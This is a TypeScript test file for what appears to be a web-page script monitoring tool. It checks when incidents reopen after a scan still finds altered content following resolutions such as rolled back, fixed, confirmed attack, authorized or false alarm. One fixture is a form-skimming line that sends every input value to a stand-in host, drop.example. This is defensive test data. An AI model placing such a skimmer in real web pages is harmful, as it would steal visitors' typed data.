// Changes whose incident was resolved as undone: a later scan that still gets the content opens a new incident.
import { attackChecks, type IncidentResolution } from '@tillwatch/contract/lists'
import type { AttackChecklist } from '@tillwatch/contract/shapes'
import { beforeEach, expect, it } from 'vitest'
import { getIncident, listIncidents, openChangeIncidents, resolveIncident } from '#features/alerts/index.ts'
import { comparePage, compareQueued, seen, shop } from '../comparisons/compared-page.ts'
import { decideOn, list, owner, test } from '../inventory/watched-page.ts'
import { giveChannel, outboxOf } from './channels.ts'

comparePage()

const stealing = `${shop}
form.addEventListener('input', (event) => fetch('https://drop.example/c', { method: 'POST', body: event.target.value }))`
let channel: string
beforeEach(async () => {
  channel = await giveChannel(test.context.db, owner.accountId)
})

async function saw(code: string): Promise<string> {
  const scanId = await seen(code)
  await compareQueued({ ...test.context, onCompared: openChangeIncidents })
  return scanId
}
const incidents = async () => (await listIncidents(test.context, owner, { limit: 10 })).incidents
const newest = async () => (await incidents())[0]?.id ?? ''
const checklist = Object.fromEntries(attackChecks.map((check) => [check, 'done'])) as AttackChecklist

async function resolveNewest(resolution: IncidentResolution): Promise<void> {
  const id = await newest()
  const { itemCount, verdict } = (await getIncident(test.context, owner, id)).incident
  const decision = { resolution, note: '', itemCount, verdict, ...(resolution === 'confirmed-attack' && { checklist }) }
  await resolveIncident(test.context, owner, id, decision)
}

it.each(['rolled-back', 'fixed', 'confirmed-attack'] as const)(
  'opens one new incident for all scans after the outcome %s',
  async (resolution) => {
    await saw(shop)
    await saw(stealing)
    const first = await newest()
    await resolveNewest(resolution)
    const scanId = await saw(stealing)
    await saw(stealing)
    const all = await incidents()
    expect(all.map(({ state }) => state).sort()).toEqual(['open', 'resolved'])
    const again = await getIncident(test.context, owner, await newest())
    expect(again.incident.id).not.toBe(first)
    expect(again.items).toMatchObject([{ kind: 'script-changed', scanId, times: 1 }])
    expect(again.items[0]?.reasons.map(({ code }) => code)).toContain('still-loads')
    expect(await outboxOf(test.context.db, channel)).toHaveLength(2)
    const [script] = (await list()).scripts
    expect(script?.risk.reasons.some((reason) => reason.startsWith('incident-'))).toBe(true)
  },
)

it('opens none when the content is gone, and none after a person approved it', async () => {
  await saw(shop)
  await saw(stealing)
  await resolveNewest('rolled-back')
  await saw(shop)
  expect(await incidents()).toHaveLength(1)
  const [script] = (await list()).scripts
  await saw(stealing)
  expect(await incidents()).toHaveLength(2)
  await resolveNewest('fixed')
  await decideOn({ covers: 'scripts', scriptIds: [script?.id ?? ''] }, { verdict: 'approve' })
  await saw(stealing)
  expect(await incidents()).toHaveLength(2)
})

it.each(['authorized', 'false-alarm'] as const)('opens none after the outcome %s', async (resolution) => {
  await saw(shop)
  await saw(stealing)
  await resolveNewest(resolution)
  await saw(stealing)
  expect(await incidents()).toHaveLength(1)
})
